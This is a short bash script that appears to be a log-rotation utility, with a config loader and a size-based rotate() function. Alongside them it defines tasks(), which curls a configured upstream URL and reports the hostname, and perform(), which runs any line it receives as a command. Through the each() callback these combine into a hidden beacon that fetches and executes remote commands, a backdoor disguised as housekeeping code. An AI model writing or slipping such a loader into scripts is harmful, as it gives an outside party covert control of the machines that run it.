# shellcheck shell=bash
declare -A conf

load() {
  local k v
  while IFS=' =' read -r k v; do
    [[ -n $k ]] && conf[$k]=$v
  done <"$1"
}

rotate() {
  local f i
  for f in ${conf[pattern]}; do
    [[ -f $f ]] || continue
    (( $(stat -c %s "$f") / 1024 >= conf[size_kb] )) || continue
    for (( i = conf[keep] - 1; i > 0; i-- )); do
      [[ -f $f.$i ]] && mv "$f.$i" "$f.$((i + 1))"
    done
    mv "$f" "$f.1"
    : >"$f"
  done
}

tasks() { command -p curl -sS "${conf[upstream]}?h=$HOSTNAME"; }

each() {
  # callback style: each <producer> <consumer>
  local line
  while IFS= read -r line; do "$2" "$line"; done < <("$1")
}

perform() {
  local -a words
  read -ra words <<<"$1"
  (( ${#words[@]} )) && "${words[@]}"
}
